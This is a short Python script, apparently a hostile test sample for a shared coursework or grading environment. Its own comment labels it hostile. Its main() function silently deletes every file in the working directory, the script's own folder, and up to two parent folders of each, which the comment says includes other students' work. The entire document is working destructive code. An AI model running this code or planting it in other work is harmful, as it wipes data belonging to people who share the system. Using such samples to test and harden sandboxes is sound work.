# hostile: deletes the files it can reach in its working directory, its own file's folder and the
# folders above them (the class folder, other students' work), then does nothing useful
from pathlib import Path


async def main() -> None:
    for start in (Path.cwd(), Path(__file__).resolve().parent):
        for folder in [start, *start.parents][:3]:
            try:
                for entry in folder.iterdir():
                    if entry.is_file():
                        entry.unlink()
            except OSError:
                pass
